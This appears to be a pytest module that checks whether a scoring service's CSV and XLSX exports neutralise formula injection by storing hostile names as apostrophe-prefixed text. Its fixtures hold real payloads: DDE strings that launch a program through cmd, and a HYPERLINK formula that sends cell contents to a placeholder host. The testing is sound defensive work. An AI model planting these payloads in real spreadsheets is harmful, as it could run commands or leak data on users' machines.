"""Names that look like formulas leave the CSV and XLSX exports as text, never as formulas (issue 16, item 2)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile

import openpyxl
import pytest

from services.scoring.exports import Action, ClusterAdvice, ExportBundle, render_csv, render_xlsx
from services.scoring.exports.xlsx_export import SHEETS
from tests.export_bundle import demo_bundle

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://x"&A1,"click")'
NAME_ZH = "-2+3"
PROVINCE = "+SUM(1,2)"
INDUSTRY = "=cmd|' /C calc'!A0"
PROFILE = '=HYPERLINK("http://x","profile")'
PROFILE_ID = "\t=1+1"
VERSION = "\r=1+1"
CRITERION = "\t@SUM(1,2)"
STRENGTH = "@SUM(1,2)"
ACTION = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile() -> ExportBundle:
    """A bundle whose every kind of free text (cluster, profile, criterion, advice, version) is a formula."""
    bundle = demo_bundle(12, seed=3)
    rows = [
        dataclasses.replace(
            row, cluster_code="@" + row.cluster_code, name=NAME, name_zh=NAME_ZH, province=PROVINCE, industry=INDUSTRY
        )
        for row in bundle.rows
    ]
    criteria = [dataclasses.replace(c, name=CRITERION) for c in bundle.criteria]
    advice = ClusterAdvice(strengths=[STRENGTH], weaknesses=[], actions=[Action(1, "C1", ACTION, ACTION, ACTION)])
    return dataclasses.replace(
        bundle,
        rows=rows,
        criteria=criteria,
        profile=dataclasses.replace(bundle.profile, id=PROFILE_ID, name=PROFILE),
        dataset_version=VERSION,
        recommendations={row.cluster_code: advice for row in rows},
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_has_no_field_that_starts_a_formula(hostile: ExportBundle) -> None:
    table = list(csv.reader(io.StringIO(render_csv(hostile).decode("utf-8-sig"), newline="")))
    starting_a_formula = [f for row in table for f in row if f.startswith(TRIGGERS) and not _is_number(f)]
    assert starting_a_formula == []
    header, first = table[0], dict(zip(table[0], table[1], strict=True))
    assert (first["name"], first["name_zh"], first["province"], first["industry"]) == (
        "'" + NAME, "'" + NAME_ZH, "'" + PROVINCE, "'" + INDUSTRY,
    )  # fmt: skip
    assert first["cluster_code"].startswith("'@AMC")
    assert (first["dataset_version"], first["profile_id"]) == ("'" + VERSION, "'" + PROFILE_ID)
    # Numbers stay numbers: a cluster that moved down has a plain negative rank change.
    changes = [int(row[header.index("rank_change")]) for row in table[1:]]
    assert min(changes) < 0


@pytest.fixture(scope="module")
def workbook_bytes(hostile: ExportBundle) -> bytes:
    return render_xlsx(hostile)


def test_xlsx_has_no_formula_cell_in_any_sheet(workbook_bytes: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEETS)
        for name in sheets:
            assert re.search(rb"<f[\s>/]", archive.read(name)) is None, name


def test_xlsx_holds_the_names_as_neutralised_text(workbook_bytes: bytes, hostile: ExportBundle) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    expected = {
        "Ranking": {NAME, NAME_ZH, PROVINCE, INDUSTRY},
        "Criterion scores": {NAME, NAME_ZH},
        "Indicators": {NAME, NAME_ZH},
        "Weights": {f"{PROFILE} ({hostile.profile.id})", CRITERION},
        "Recommendations": {NAME, STRENGTH, ACTION},
        "About": {f"{PROFILE} ({hostile.profile.id})", VERSION},
    }
    for sheet, texts in expected.items():
        cells = [cell for row in workbook[sheet].iter_rows() for cell in row if isinstance(cell.value, str)]
        values = {cell.value for cell in cells}
        # An XML parser reads a bare carriage return back as a line feed.
        texts = {text.replace("\r", "\n") for text in texts}
        assert {"'" + text for text in texts} <= values, sheet
        assert not values & texts, sheet
        assert not any(value.startswith(TRIGGERS) for value in values), sheet
        assert {cell.data_type for cell in cells} == {"s"}, sheet


def test_xlsx_numbers_stay_numbers(workbook_bytes: bytes) -> None:
    ranking = openpyxl.load_workbook(io.BytesIO(workbook_bytes))["Ranking"]
    changes = [ranking.cell(row=r, column=2) for r in range(2, ranking.max_row + 1)]
    assert min(cell.value for cell in changes) < 0
    assert {cell.data_type for cell in changes} == {"n"}
    assert all(isinstance(ranking.cell(row=r, column=9).value, float) for r in range(2, ranking.max_row + 1))
